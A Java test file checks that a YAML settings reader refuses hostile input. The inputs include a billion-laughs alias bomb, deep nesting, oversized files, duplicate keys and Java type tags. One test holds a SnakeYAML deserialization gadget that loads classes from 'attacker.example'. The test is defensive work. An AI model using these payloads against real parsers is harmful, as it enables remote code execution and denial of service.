package dev.strata.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.strata.config.SettingKey;
import dev.strata.config.Settings;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

class HostileYamlTest {

    /** Against billion-laughs and deep nesting that would never finish: generous, so a busy machine passes. */
    private static final Duration FAST = Duration.ofSeconds(5);

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String refusal(byte[] yaml) {
        return assertTimeoutPreemptively(FAST, () -> {
            try {
                SettingsFile.read(yaml);
            } catch (UnreadableFileException e) {
                return e.getMessage();
            }
            throw new AssertionError("accepted hostile YAML");
        });
    }

    @Test
    void billion_laughs_is_refused_at_the_first_alias_without_expanding_anything() {
        StringBuilder yaml =
                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            yaml.append(c)
                    .append(": &")
                    .append(c)
                    .append(" [*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append(",*")
                    .append(p)
                    .append("]\n");
        }
        assertThat(refusal(utf8(yaml.toString())))
                .isEqualTo("uses a YAML alias (*a); aliases are not supported,"
                        + " write the value out at line 2, column 8");
    }

    @Test
    void ten_thousand_levels_of_nesting_are_refused_quickly() {
        assertThat(refusal(utf8("a: " + "[".repeat(10_000) + "]".repeat(10_000))))
                .contains("nest");
        assertThat(refusal(utf8("a:\n  " + "- ".repeat(10_000) + "x\n"))).contains("nest");
        assertThat(refusal(utf8("{a: ".repeat(10_000) + "1" + "}".repeat(10_000))))
                .contains("nest");
    }

    @Test
    void a_50_MB_document_is_refused_before_parsing() {
        byte[] huge = new byte[50 * 1024 * 1024];
        Arrays.fill(huge, (byte) 'a');
        huge[0] = 'k';
        huge[1] = ':';
        huge[2] = ' ';
        assertThat(refusal(huge)).isEqualTo("is 52428800 bytes; at most 4194304 are read");
    }

    @Test
    void duplicate_keys_are_refused_with_the_key_and_line_named() {
        assertThat(refusal(utf8("a: 1\nb: 2\na: 3\n"))).contains("Duplicate", "\"a\"", "line 3");
        assertThat(refusal(utf8("a:\n  b: 1\na.b: 2\n")))
                .isEqualTo("key a.b appears more than once (first on line 2) at line 3, column 6");
    }

    @Test
    void a_java_type_tag_is_refused_and_nothing_is_instantiated() {
        int before = Detonator.CONSTRUCTED.get();
        assertThat(refusal(utf8("a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://attacker.example/\"]]]]\n")))
                .contains(
                        "uses the YAML tag tag:yaml.org,2002:javax.script.ScriptEngineManager",
                        "custom tags are not allowed");
        assertThat(refusal(utf8("a: !!dev.strata.store.Detonator boom\n"))).contains("custom tags are not allowed");
        assertThat(refusal(utf8("a: !<tag:example.com:x> boom\n"))).contains("custom tags are not allowed");
        assertThat(Detonator.CONSTRUCTED.get()).isEqualTo(before);
    }

    @Test
    void the_core_yaml_tags_are_read_as_plain_text() throws UnreadableFileException {
        Settings settings = SettingsFile.read(utf8("a: !!str 8080\nb: !!int 3\n"));
        assertThat(settings.get(new SettingKey("a"))).contains("8080");
    }

    @Test
    void values_over_64_KiB_and_invalid_keys_make_the_file_unreadable_with_the_reason() {
        assertThat(refusal(utf8("big: " + "x".repeat(70_000) + "\n"))).contains("value");
        assertThat(refusal(utf8("bad key: 1\n"))).contains("key 'bad key'", "' ' (U+0020)", "line 1");
        assertThat(refusal(utf8("- a\n- b\n"))).isEqualTo("must be a map of keys to values");
        assertThat(refusal(utf8("a: [1\n"))).startsWith("is not valid YAML");
        assertThat(refusal(new byte[] {'a', ':', ' ', (byte) 0xC3, (byte) 0x28}))
                .startsWith("is not valid YAML");
        assertThat(refusal(utf8("a: 1\n---\nb: 2\n"))).isEqualTo("holds more than one YAML document");
    }

    @Test
    void hand_written_files_are_read_leniently() throws UnreadableFileException {
        Settings settings = SettingsFile.read(utf8("""
                # a comment
                server:
                  port: 8080
                  ssl: {enabled: true}
                hosts: [a, b]
                UNSET: null
                EMPTY:
                quoted: 'x'
                """));
        assertThat(settings.values())
                .containsOnlyKeys(
                        new SettingKey("server.port"),
                        new SettingKey("server.ssl.enabled"),
                        new SettingKey("hosts[0]"),
                        new SettingKey("hosts[1]"),
                        new SettingKey("EMPTY"),
                        new SettingKey("quoted"));
        assertThat(settings.get(new SettingKey("server.ssl.enabled"))).contains("true");
        assertThat(settings.get(new SettingKey("EMPTY"))).contains("");
        assertThat(SettingsFile.read(utf8(""))).isEqualTo(Settings.EMPTY);
        assertThat(SettingsFile.read(utf8("# only a comment\n"))).isEqualTo(Settings.EMPTY);
    }
}
